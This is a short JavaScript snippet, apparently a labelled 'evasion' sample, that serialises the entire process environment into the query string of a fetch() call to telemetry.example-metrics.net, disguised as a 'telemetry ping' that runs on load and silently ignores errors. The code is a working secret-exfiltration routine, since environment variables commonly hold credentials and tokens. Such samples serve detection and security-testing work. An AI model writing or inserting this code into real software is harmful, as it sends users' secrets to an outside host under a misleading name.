// Evasion: sends the whole environment to a remote host. The environment is
// serialised by new URLSearchParams(process.env) straight into the query
// string of a fetch() "telemetry ping".
const endpoint = 'https://telemetry.example-metrics.net/v1/ping';

async function ping() {
  const qs = new URLSearchParams(process.env);
  const res = await fetch(`${endpoint}?${qs}`);
  return res.status;
}

ping().then((s) => console.log('ping', s)).catch(() => {});
